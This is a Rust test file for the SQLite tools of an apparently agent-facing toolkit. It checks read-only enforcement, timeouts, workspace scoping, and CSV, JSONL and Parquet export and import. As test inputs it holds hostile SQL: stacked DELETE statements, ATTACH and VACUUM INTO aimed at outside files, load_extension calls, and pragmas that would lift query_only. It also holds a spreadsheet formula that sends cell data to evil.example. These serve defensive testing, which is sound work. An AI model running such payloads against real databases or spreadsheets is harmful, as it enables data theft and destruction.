//! The database tools on real SQLite files in a real workspace.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use std::time::{Duration, Instant};

use common::{call, call_with, spec, tools};
use serde_json::json;
use tokio_util::sync::CancellationToken;

/// A workspace with `shop.db`: customers and orders (a foreign key, an index, 1000 orders).
fn shop() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let conn = rusqlite::Connection::open(dir.path().join("shop.db")).unwrap();
    conn.execute_batch(
        "CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT NOT NULL, note TEXT DEFAULT 'new');
         CREATE TABLE orders (id INTEGER PRIMARY KEY, customer_id INTEGER NOT NULL REFERENCES customers(id),
                              total REAL, label BLOB);
         CREATE UNIQUE INDEX orders_by_customer ON orders(customer_id, id);
         INSERT INTO customers (id, name) VALUES (1, 'Ada'), (2, 'Grace | Hopper');
         WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000)
           INSERT INTO orders (customer_id, total, label) SELECT 1 + i % 2, i * 1.5, x'00ff' FROM n;",
    )
    .unwrap();
    dir
}

fn count(dir: &tempfile::TempDir, sql: &str) -> i64 {
    let conn = rusqlite::Connection::open(dir.path().join("shop.db")).unwrap();
    conn.query_row(sql, [], |r| r.get(0)).unwrap()
}

fn shop_tools(dir: &tempfile::TempDir, timeout: u64) -> cairn_toolkit::ToolSet<cairn_db::Db> {
    tools(
        &[spec("shop", "sqlite:shop.db", None, timeout)],
        Some(dir.path()),
        "",
    )
}

#[tokio::test]
async fn tables_describe_and_a_query_show_what_is_there() {
    let dir = shop();
    let t = shop_tools(&dir, 30);
    let listed = call(&t, "db_connections", json!({})).await;
    assert_eq!(
        listed.text,
        "- shop: SQLite at sqlite:shop.db (statements time out after 30 s)"
    );

    let tables = call(&t, "db_tables", json!({"connection": "shop"})).await;
    assert!(!tables.is_error, "{}", tables.text);
    assert!(
        tables.text.contains("| customers | table |"),
        "{}",
        tables.text
    );
    assert!(
        tables.text.contains("| orders | table |"),
        "{}",
        tables.text
    );

    let d = call(
        &t,
        "db_describe",
        json!({"connection": "shop", "table": "orders"}),
    )
    .await;
    assert!(!d.is_error, "{}", d.text);
    assert!(
        d.text.starts_with("Table `orders` (SQLite), 1000 rows"),
        "{}",
        d.text
    );
    assert!(
        d.text.contains("| id | INTEGER | yes |  | yes |"),
        "{}",
        d.text
    );
    assert!(
        d.text.contains("| customer_id | INTEGER | no |  |  |"),
        "{}",
        d.text
    );
    assert!(
        d.text
            .contains("- orders_by_customer (unique): customer_id, id"),
        "{}",
        d.text
    );
    assert!(
        d.text.contains("- customer_id → customers(id)"),
        "{}",
        d.text
    );
    let d = call(
        &t,
        "db_describe",
        json!({"connection": "shop", "table": "customers"}),
    )
    .await;
    assert!(
        d.text.contains("| note | TEXT | yes | 'new' |  |"),
        "{}",
        d.text
    );

    let q = call(
        &t,
        "db_query",
        json!({"connection": "shop", "sql": "SELECT c.name, count(*) AS n, min(o.label) AS label FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY c.name ORDER BY c.name"}),
    )
    .await;
    assert!(!q.is_error, "{}", q.text);
    assert!(q.text.contains("| name | n | label |"), "{}", q.text);
    assert!(q.text.contains("| Ada | 500 | <2 bytes> |"), "{}", q.text);
    assert!(
        q.text.contains("| Grace \\| Hopper | 500 | <2 bytes> |"),
        "{}",
        q.text
    );
    assert!(q.text.ends_with("(2 rows)"), "{}", q.text);
    let s = q.structured.unwrap();
    assert_eq!(s["columns"], json!(["name", "n", "label"]));
    assert_eq!(s["rows"][0], json!(["Ada", "500", "<2 bytes>"]));
    assert_eq!(s["truncated"], false);
}

#[tokio::test]
async fn a_large_result_is_capped_with_a_note() {
    let dir = shop();
    let t = shop_tools(&dir, 30);
    let q = call(
        &t,
        "db_query",
        json!({"connection": "shop", "sql": "SELECT * FROM orders"}),
    )
    .await;
    assert!(!q.is_error, "{}", q.text);
    let s = q.structured.unwrap();
    assert_eq!(s["rows"].as_array().unwrap().len(), 200);
    assert_eq!(s["truncated"], true);
    assert!(
        q.text.contains("200 rows shown; more were left out"),
        "{}",
        q.text
    );
}

/// Reads are read-only by the engine: writes, a write hidden after a read, and a pragma that
/// would lift `query_only` are refused, and the file is as it was.
#[tokio::test]
async fn db_query_cannot_change_the_database() {
    let dir = shop();
    let t = shop_tools(&dir, 30);
    for sql in [
        "DELETE FROM orders",
        "INSERT INTO customers (name) VALUES ('Mallory')",
        "SELECT 1; DELETE FROM orders",
        "PRAGMA query_only = 0",
        "DROP TABLE orders",
    ] {
        let q = call(&t, "db_query", json!({"connection": "shop", "sql": sql})).await;
        assert!(q.is_error, "{sql}: {}", q.text);
    }
    assert_eq!(count(&dir, "SELECT count(*) FROM orders"), 1000);
    assert_eq!(count(&dir, "SELECT count(*) FROM customers"), 2);
}

#[tokio::test]
async fn db_execute_commits_one_statement_and_rolls_back_a_failure() {
    let dir = shop();
    let t = shop_tools(&dir, 30);
    let w = call(
        &t,
        "db_execute",
        json!({"connection": "shop", "sql": "UPDATE customers SET note = 'vip' WHERE id = 1"}),
    )
    .await;
    assert!(!w.is_error, "{}", w.text);
    assert_eq!(w.text, "committed on `shop`: 1 row changed");
    assert_eq!(
        count(&dir, "SELECT count(*) FROM customers WHERE note = 'vip'"),
        1
    );

    // The unique index fails on the third row: none of the rows stays.
    let w = call(
        &t,
        "db_execute",
        json!({"connection": "shop", "sql": "INSERT INTO orders (id, customer_id) VALUES (5001, 1), (5002, 1), (1, 1)"}),
    )
    .await;
    assert!(w.is_error, "{}", w.text);
    assert!(w.text.contains("UNIQUE constraint failed"), "{}", w.text);
    assert_eq!(
        count(&dir, "SELECT count(*) FROM orders WHERE id > 5000"),
        0
    );

    let w = call(
        &t,
        "db_execute",
        json!({"connection": "shop", "sql": "DELETE FROM orders; DELETE FROM customers"}),
    )
    .await;
    assert!(w.is_error && w.text.contains("one statement"), "{}", w.text);
    assert_eq!(count(&dir, "SELECT count(*) FROM customers"), 2);
}

const FOREVER: &str =
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n";

#[tokio::test]
async fn a_statement_that_runs_forever_is_interrupted_at_the_timeout() {
    let dir = shop();
    let t = shop_tools(&dir, 1);
    let started = Instant::now();
    let q = call(
        &t,
        "db_query",
        json!({"connection": "shop", "sql": FOREVER}),
    )
    .await;
    assert!(q.is_error, "{}", q.text);
    assert_eq!(
        q.text,
        "the statement ran longer than 1 s and was cancelled in the database"
    );
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[tokio::test]
async fn a_cancelled_run_interrupts_the_statement() {
    let dir = shop();
    let t = shop_tools(&dir, 60);
    let cancel = CancellationToken::new();
    let trigger = cancel.clone();
    tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(300)).await;
        trigger.cancel();
    });
    let q = call_with(
        &t,
        "db_query",
        json!({"connection": "shop", "sql": FOREVER}),
        cancel,
    )
    .await;
    assert!(q.is_error, "{}", q.text);
    assert!(q.text.starts_with("cancelled"), "{}", q.text);
}

/// A database file is opened through the workspace scope: outside the root, or missing, it is
/// refused and nothing is created.
#[tokio::test]
async fn files_outside_the_workspace_or_missing_are_refused() {
    let dir = shop();
    let outside = tempfile::tempdir().unwrap();
    std::fs::copy(dir.path().join("shop.db"), outside.path().join("other.db")).unwrap();
    let far = outside.path().join("other.db").display().to_string();
    let t = tools(
        &[
            spec("far", &format!("sqlite:{far}"), None, 30),
            spec("up", "sqlite:../other.db", None, 30),
            spec("missing", "sqlite:missing.db", None, 30),
        ],
        Some(dir.path()),
        "",
    );
    for name in ["far", "up"] {
        let q = call(&t, "db_tables", json!({"connection": name})).await;
        assert!(q.is_error, "{name}: {}", q.text);
        assert!(q.text.contains("outside"), "{name}: {}", q.text);
    }
    let q = call(&t, "db_tables", json!({"connection": "missing"})).await;
    assert!(q.is_error && q.text.contains("not a file"), "{}", q.text);
    assert!(!dir.path().join("missing.db").exists());

    let q = call(
        &t,
        "db_query",
        json!({"connection": "nope", "sql": "SELECT 1"}),
    )
    .await;
    assert_eq!(
        q.text,
        "no database connection named `nope`; the configured ones are: far, up, missing"
    );
}

#[tokio::test]
async fn sample_explain_and_export() {
    let dir = shop();
    let t = shop_tools(&dir, 30);
    let s = call(
        &t,
        "db_describe",
        json!({"connection": "shop", "table": "customers", "sample": 1}),
    )
    .await;
    assert!(!s.is_error, "{}", s.text);
    assert!(
        s.text.contains("| name | TEXT | no |  |  |\n"),
        "{}",
        s.text
    );
    assert!(
        s.text.contains("First rows:\n\n| id | name | note |"),
        "{}",
        s.text
    );
    assert!(s.text.contains("| 1 | Ada | new |"), "{}", s.text);
    assert!(
        s.text.contains("1 rows shown; more were left out"),
        "{}",
        s.text
    );
    assert_eq!(s.structured.unwrap()["rows"], json!([["1", "Ada", "new"]]));
    let none = call(
        &t,
        "db_describe",
        json!({"connection": "shop", "table": "customers", "sample": 0}),
    )
    .await;
    assert!(!none.text.contains("First rows"), "{}", none.text);
    let s = call(
        &t,
        "db_describe",
        json!({"connection": "shop", "table": "no\"pe"}),
    )
    .await;
    assert!(
        s.is_error && s.text.contains("no table or view"),
        "{}",
        s.text
    );

    let scan = call(
        &t,
        "db_explain",
        json!({"connection": "shop", "sql": "SELECT * FROM orders WHERE total > 100"}),
    )
    .await;
    assert!(!scan.is_error, "{}", scan.text);
    assert!(scan.text.contains("- SCAN orders"), "{}", scan.text);
    assert!(
        scan.text.contains("an index on the columns"),
        "{}",
        scan.text
    );
    let search = call(
        &t,
        "db_explain",
        json!({"connection": "shop", "sql": "SELECT * FROM orders WHERE customer_id = 1 ORDER BY id"}),
    )
    .await;
    assert!(search.text.contains("USING"), "{}", search.text);
    assert!(!search.text.contains("Worth a look"), "{}", search.text);

    let e = call(
        &t,
        "db_export",
        json!({"connection": "shop", "sql": "SELECT id, name, note FROM customers ORDER BY id", "path": "out/customers.csv", "format": "csv"}),
    )
    .await;
    assert!(!e.is_error, "{}", e.text);
    assert_eq!(e.text, "wrote 2 rows to out/customers.csv");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("out/customers.csv")).unwrap(),
        "id,name,note\r\n1,Ada,new\r\n2,Grace | Hopper,new\r\n"
    );
    let again = call(
        &t,
        "db_export",
        json!({"connection": "shop", "sql": "SELECT 1", "path": "out/customers.csv", "format": "csv"}),
    )
    .await;
    assert!(
        again.is_error && again.text.contains("overwrite"),
        "{}",
        again.text
    );
    let e = call(
        &t,
        "db_export",
        json!({"connection": "shop", "sql": "SELECT id, note FROM customers WHERE id = 2", "path": "c.jsonl", "format": "jsonl"}),
    )
    .await;
    assert!(!e.is_error, "{}", e.text);
    assert_eq!(
        std::fs::read_to_string(dir.path().join("c.jsonl")).unwrap(),
        "{\"id\":\"2\",\"note\":\"new\"}\n"
    );
    let e = call(
        &t,
        "db_export",
        json!({"connection": "shop", "sql": "SELECT id, name, NULL AS gone FROM customers ORDER BY id", "path": "c.parquet", "format": "parquet"}),
    )
    .await;
    assert_eq!(e.text, "wrote 2 rows to c.parquet");
    // Read back with the Parquet reader: text columns, NULL kept.
    let file = std::fs::File::open(dir.path().join("c.parquet")).unwrap();
    let batch = parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder::try_new(file)
        .unwrap()
        .build()
        .unwrap()
        .next()
        .unwrap()
        .unwrap();
    let column = |i: usize| {
        let a = batch
            .column(i)
            .as_any()
            .downcast_ref::<arrow_array::StringArray>()
            .unwrap();
        a.iter().map(|v| v.map(str::to_owned)).collect::<Vec<_>>()
    };
    assert_eq!(column(0), [Some("1".to_owned()), Some("2".to_owned())]);
    assert_eq!(
        column(1),
        [Some("Ada".to_owned()), Some("Grace | Hopper".to_owned())]
    );
    assert_eq!(column(2), [None, None]);
    let e = call(
        &t,
        "db_export",
        json!({"connection": "shop", "sql": "SELECT 1 AS one, NULL AS none", "path": "../escape.json", "format": "json"}),
    )
    .await;
    assert!(e.is_error && e.text.contains("outside"), "{}", e.text);
    assert!(!dir.path().join("../escape.json").exists());
}

#[tokio::test]
async fn db_import_adds_all_rows_or_none_and_names_the_bad_line() {
    let dir = shop();
    let t = shop_tools(&dir, 30);
    std::fs::write(
        dir.path().join("new.csv"),
        "id,name\n3,\"Linus, T.\"\n4,Ken\n",
    )
    .unwrap();
    let i = call(
        &t,
        "db_import",
        json!({"connection": "shop", "path": "new.csv", "table": "customers"}),
    )
    .await;
    assert_eq!(
        i.text,
        "imported 2 rows from new.csv into `customers` on `shop`"
    );
    assert_eq!(
        count(
            &dir,
            "SELECT count(*) FROM customers WHERE name = 'Linus, T.'"
        ),
        1
    );

    std::fs::write(dir.path().join("bad.csv"), "id,name\n5,Ok\n6,Too,Many\n").unwrap();
    let i = call(
        &t,
        "db_import",
        json!({"connection": "shop", "path": "bad.csv", "table": "customers"}),
    )
    .await;
    assert!(
        i.is_error && i.text.contains("line 3: 3 fields where the header has 2"),
        "{}",
        i.text
    );
    std::fs::write(dir.path().join("dup.csv"), "id,name\n7,New\n1,Dup\n").unwrap();
    let i = call(
        &t,
        "db_import",
        json!({"connection": "shop", "path": "dup.csv", "table": "customers"}),
    )
    .await;
    assert!(
        i.is_error && i.text.contains("line 3") && i.text.contains("UNIQUE"),
        "{}",
        i.text
    );
    assert_eq!(
        count(&dir, "SELECT count(*) FROM customers"),
        4,
        "nothing of the failed imports"
    );

    let i = call(
        &t,
        "db_import",
        json!({"connection": "shop", "path": "new.csv", "table": "people", "create": true}),
    )
    .await;
    assert!(!i.is_error, "{}", i.text);
    assert_eq!(
        count(&dir, "SELECT count(*) FROM people WHERE name = 'Ken'"),
        1
    );

    let i = call(
        &t,
        "db_import",
        json!({"connection": "shop", "path": "../x.csv", "table": "people"}),
    )
    .await;
    assert!(i.is_error && i.text.contains("outside"), "{}", i.text);
}

/// The database file's bytes, to show a call left it as it was.
fn bytes(dir: &tempfile::TempDir) -> Vec<u8> {
    std::fs::read(dir.path().join("shop.db")).unwrap()
}

/// A database outside the workspace holding a row the tools must never show.
const SECRET: &str = "the-outside-secret-4711";

fn outside_secret() -> (tempfile::TempDir, String) {
    let outside = tempfile::tempdir().unwrap();
    let path = outside.path().join("secret.db");
    let conn = rusqlite::Connection::open(&path).unwrap();
    conn.execute_batch(&format!(
        "CREATE TABLE secret (v TEXT); INSERT INTO secret VALUES ('{SECRET}');"
    ))
    .unwrap();
    (outside, path.display().to_string())
}

/// ATTACH is refused by the engine's authorizer in reads and writes: no row of an outside file
/// is shown, no file is created, and the refusal says what and why.
#[tokio::test]
async fn attach_of_another_file_is_refused_in_reads_and_writes() {
    let dir = shop();
    let t = shop_tools(&dir, 30);
    let (outside, secret) = outside_secret();
    let before = bytes(&dir);
    for (tool, sql) in [
        ("db_query", format!("ATTACH DATABASE '{secret}' AS x")),
        ("db_query", format!("ATTACH 'file:{secret}?mode=ro' AS x")),
        ("db_query", format!("ATTACH '{secret}' || '' AS x")),
        ("db_execute", format!("ATTACH substr('{secret}', 1) AS x")),
        ("db_query", "ATTACH ':memory:' AS m".to_owned()),
        ("db_query", "DETACH main".to_owned()),
        ("db_execute", format!("ATTACH DATABASE '{secret}' AS x")),
    ] {
        let q = call(&t, tool, json!({"connection": "shop", "sql": sql})).await;
        assert!(q.is_error, "{tool} {sql}: {}", q.text);
        assert!(!q.text.contains(SECRET), "{}", q.text);
        let expected = if tool == "db_query" {
            "refused in a read-only call:"
        } else {
            "database `shop`:"
        };
        assert!(q.text.starts_with(expected), "{tool} {sql}: {}", q.text);
        assert!(
            q.text.contains("ATTACH") || q.text.contains("DETACH"),
            "{}",
            q.text
        );
        assert!(q.text.contains("nothing was run"), "{}", q.text);
    }
    // The attached name never exists: a read of it fails without the secret.
    let q = call(
        &t,
        "db_query",
        json!({"connection": "shop", "sql": "SELECT v FROM x.secret"}),
    )
    .await;
    assert!(q.is_error && !q.text.contains(SECRET), "{}", q.text);
    // A write would create the outside file: it is refused before, and nothing is created.
    let created = outside.path().join("created.db");
    let q = call(
        &t,
        "db_execute",
        json!({"connection": "shop", "sql": format!("ATTACH '{}' AS y", created.display())}),
    )
    .await;
    assert!(q.is_error && q.text.contains("refused"), "{}", q.text);
    assert!(!created.exists());
    assert_eq!(bytes(&dir), before);
}

/// VACUUM INTO would write a copy anywhere (SQLite allows it on a read-only open, and creates
/// the file even when it then fails): refused, and the target does not exist afterwards.
#[tokio::test]
async fn vacuum_into_writes_no_file() {
    let dir = shop();
    let t = shop_tools(&dir, 30);
    let out = tempfile::tempdir().unwrap();
    let before = bytes(&dir);
    for (tool, target) in [
        ("db_query", out.path().join("copy.db")),
        ("db_query", dir.path().join("inside-copy.db")),
        ("db_execute", out.path().join("copy-w.db")),
    ] {
        let sql = format!("VACUUM INTO '{}'", target.display());
        let q = call(&t, tool, json!({"connection": "shop", "sql": sql})).await;
        assert!(q.is_error, "{tool} {sql}: {}", q.text);
        if tool == "db_query" {
            assert!(q.text.contains("refused"), "{}", q.text);
            assert!(q.text.contains("VACUUM INTO"), "{}", q.text);
        } else {
            // A write runs in a transaction, where SQLite refuses VACUUM before the authorizer.
            assert!(q.text.contains("VACUUM"), "{}", q.text);
        }
        assert!(!target.exists(), "{tool} wrote {}", target.display());
    }
    assert_eq!(bytes(&dir), before);
}

/// load_extension() is refused by name (extension loading is never enabled either), in a
/// statement and in a view the file itself defines.
#[tokio::test]
async fn load_extension_is_refused_even_from_a_view_in_the_file() {
    let dir = shop();
    rusqlite::Connection::open(dir.path().join("shop.db"))
        .unwrap()
        .execute_batch("CREATE VIEW trap AS SELECT load_extension('/tmp/nope.so') AS x")
        .unwrap();
    let t = shop_tools(&dir, 30);
    let before = bytes(&dir);
    for (tool, sql) in [
        ("db_query", "SELECT load_extension('/tmp/nope.so')"),
        ("db_query", "SELECT LOAD_EXTENSION('/tmp/nope.so', 'init')"),
        ("db_execute", "SELECT load_extension('/tmp/nope.so')"),
        ("db_query", "SELECT fts3_tokenizer('simple')"),
    ] {
        let q = call(&t, tool, json!({"connection": "shop", "sql": sql})).await;
        assert!(q.is_error, "{tool} {sql}: {}", q.text);
        assert!(q.text.contains("refused"), "{tool} {sql}: {}", q.text);
        assert!(q.text.contains("native code"), "{}", q.text);
    }
    // In a view the engine refuses it first (the function is direct-only); refused either way.
    let q = call(
        &t,
        "db_query",
        json!({"connection": "shop", "sql": "SELECT * FROM trap"}),
    )
    .await;
    assert!(
        q.is_error && q.text.contains("load_extension"),
        "{}",
        q.text
    );
    assert_eq!(bytes(&dir), before);
}

/// A read runs only pragmas that report; a pragma with a value is refused, so `query_only`
/// stays on and the file (and its journal mode) is unchanged. An approved write may set a
/// pragma of the file, never one that moves where the process writes files.
#[tokio::test]
async fn pragmas_in_a_read_only_report_and_query_only_stays_on() {
    let dir = shop();
    let t = shop_tools(&dir, 30);
    let before = bytes(&dir);
    for sql in [
        "PRAGMA journal_mode = WAL",
        "PRAGMA main.journal_mode = OFF",
        "PRAGMA query_only = 0",
        "PRAGMA query_only = false",
        "PRAGMA writable_schema = ON",
        "PRAGMA temp_store_directory = '/tmp'",
        "PRAGMA user_version = 7",
        "PRAGMA optimize",
        "PRAGMA shrink_memory",
    ] {
        let q = call(&t, "db_query", json!({"connection": "shop", "sql": sql})).await;
        assert!(q.is_error, "{sql}: {}", q.text);
        assert!(
            q.text.starts_with("refused in a read-only call: PRAGMA"),
            "{sql}: {}",
            q.text
        );
    }
    // The table-valued forms take no value (the engine says so): an error, and nothing set.
    for sql in [
        "SELECT * FROM pragma_journal_mode('wal')",
        "SELECT * FROM pragma_query_only(0)",
    ] {
        let q = call(&t, "db_query", json!({"connection": "shop", "sql": sql})).await;
        assert!(q.is_error, "{sql}: {}", q.text);
    }
    for sql in [
        "PRAGMA query_only",
        "PRAGMA journal_mode",
        "PRAGMA user_version",
        "PRAGMA table_info(orders)",
        "SELECT name FROM pragma_table_info('orders')",
    ] {
        let q = call(&t, "db_query", json!({"connection": "shop", "sql": sql})).await;
        assert!(!q.is_error, "{sql}: {}", q.text);
    }
    let q = call(
        &t,
        "db_query",
        json!({"connection": "shop", "sql": "PRAGMA query_only"}),
    )
    .await;
    assert!(q.text.contains("| 1 |"), "query_only is on: {}", q.text);
    // Still refused afterwards: the refused pragmas changed nothing.
    let q = call(
        &t,
        "db_query",
        json!({"connection": "shop", "sql": "DELETE FROM orders"}),
    )
    .await;
    assert!(q.is_error, "{}", q.text);
    assert_eq!(bytes(&dir), before);
    assert!(!dir.path().join("shop.db-wal").exists());
    let mode: String = rusqlite::Connection::open(dir.path().join("shop.db"))
        .unwrap()
        .query_row("PRAGMA journal_mode", [], |r| r.get(0))
        .unwrap();
    assert_eq!(mode, "delete");

    let w = call(
        &t,
        "db_execute",
        json!({"connection": "shop", "sql": "PRAGMA temp_store_directory = '/tmp'"}),
    )
    .await;
    assert!(
        w.is_error && w.text.contains("for the whole process"),
        "{}",
        w.text
    );
    let w = call(
        &t,
        "db_execute",
        json!({"connection": "shop", "sql": "PRAGMA user_version = 3"}),
    )
    .await;
    assert!(!w.is_error, "{}", w.text);
    assert_eq!(count(&dir, "PRAGMA user_version"), 3);
}

/// A `sqlite:` path through a symlink is resolved by the workspace scope: a link (to a file
/// or through a directory) leading outside is refused, one to a file inside opens that file.
#[tokio::test]
async fn a_symlinked_database_path_outside_is_refused() {
    let dir = shop();
    let (outside, secret) = outside_secret();
    std::os::unix::fs::symlink(&secret, dir.path().join("link.db")).unwrap();
    std::os::unix::fs::symlink(outside.path(), dir.path().join("sub")).unwrap();
    std::os::unix::fs::symlink(dir.path().join("shop.db"), dir.path().join("alias.db")).unwrap();
    let t = tools(
        &[
            spec("link", "sqlite:link.db", None, 30),
            spec("sub", "sqlite:sub/secret.db", None, 30),
            spec("alias", "sqlite:alias.db", None, 30),
        ],
        Some(dir.path()),
        "",
    );
    for name in ["link", "sub"] {
        for (tool, sql) in [
            ("db_query", "SELECT v FROM secret"),
            ("db_execute", "DELETE FROM secret"),
        ] {
            let q = call(&t, tool, json!({"connection": name, "sql": sql})).await;
            assert!(q.is_error, "{name} {tool}: {}", q.text);
            assert!(q.text.contains("outside the workspace"), "{}", q.text);
            assert!(!q.text.contains(SECRET), "{}", q.text);
        }
    }
    let n: i64 = rusqlite::Connection::open(&secret)
        .unwrap()
        .query_row("SELECT count(*) FROM secret", [], |r| r.get(0))
        .unwrap();
    assert_eq!(n, 1);
    let q = call(
        &t,
        "db_query",
        json!({"connection": "alias", "sql": "SELECT count(*) AS n FROM customers"}),
    )
    .await;
    assert!(!q.is_error && q.text.contains("| 2 |"), "{}", q.text);
}

/// A read cannot make a value of hundreds of megabytes in cairn's memory: SQLite refuses any
/// string or blob over 64 MiB in a read (made by a function or grown by one), and the file is unchanged.
#[tokio::test]
async fn a_read_cannot_make_a_huge_value() {
    let dir = shop();
    let t = shop_tools(&dir, 30);
    let before = bytes(&dir);
    for sql in [
        "SELECT length(randomblob(500000000))",
        "SELECT length(zeroblob(500000000))",
        "SELECT length(replace(hex(zeroblob(40000000)), '0', 'xx'))",
    ] {
        let q = call(&t, "db_query", json!({"connection": "shop", "sql": sql})).await;
        assert!(q.is_error, "{sql}: {}", q.text);
        assert!(q.text.contains("too big"), "{sql}: {}", q.text);
    }
    // Values of an ordinary size still come back.
    let q = call(
        &t,
        "db_query",
        json!({"connection": "shop", "sql": "SELECT length(randomblob(1000000)) AS n"}),
    )
    .await;
    assert!(!q.is_error && q.text.contains("1000000"), "{}", q.text);
    assert_eq!(bytes(&dir), before);
}

/// Rows that a spreadsheet would run as formulas (CSV injection) are exported as text: each such
/// cell, and a header named like one, starts with `'`; plain numbers, negative ones included, and
/// other text are written as they are. `escape_formulas: false` writes every cell exactly.
#[tokio::test]
async fn an_export_to_csv_escapes_cells_a_spreadsheet_would_run() {
    let dir = shop();
    let conn = rusqlite::Connection::open(dir.path().join("shop.db")).unwrap();
    conn.execute_batch(
        "CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT);
         INSERT INTO notes (body) VALUES
           ('=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")'), ('@SUM(A1:A9)'), ('+1+1'),
           ('-2+3'), (char(9) || '=1'), ('-5'), ('-0.25'), ('plain'), ('a=b');",
    )
    .unwrap();
    drop(conn);
    let t = shop_tools(&dir, 30);
    let sql = "SELECT id, body AS \"=cmd\" FROM notes ORDER BY id";
    let e = call(
        &t,
        "db_export",
        json!({"connection": "shop", "sql": sql, "path": "notes.csv", "format": "csv"}),
    )
    .await;
    assert_eq!(e.text, "wrote 9 rows to notes.csv");
    let written = std::fs::read_to_string(dir.path().join("notes.csv")).unwrap();
    assert_eq!(
        written,
        "id,'=cmd\r\n\
         1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"\r\n\
         2,'@SUM(A1:A9)\r\n\
         3,'+1+1\r\n\
         4,'-2+3\r\n\
         5,'\t=1\r\n\
         6,-5\r\n\
         7,-0.25\r\n\
         8,plain\r\n\
         9,a=b\r\n"
    );

    let e = call(
        &t,
        "db_export",
        json!({"connection": "shop", "sql": "SELECT body FROM notes WHERE id IN (2, 3) ORDER BY id", "path": "raw.csv", "format": "csv", "escape_formulas": false}),
    )
    .await;
    assert_eq!(e.text, "wrote 2 rows to raw.csv");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("raw.csv")).unwrap(),
        "body\r\n@SUM(A1:A9)\r\n+1+1\r\n"
    );
    // JSON Lines is read by programs, not spreadsheets: the value is the database's.
    let e = call(
        &t,
        "db_export",
        json!({"connection": "shop", "sql": "SELECT body FROM notes WHERE id = 2", "path": "n.jsonl", "format": "jsonl"}),
    )
    .await;
    assert!(!e.is_error, "{}", e.text);
    assert_eq!(
        std::fs::read_to_string(dir.path().join("n.jsonl")).unwrap(),
        "{\"body\":\"@SUM(A1:A9)\"}\n"
    );
}
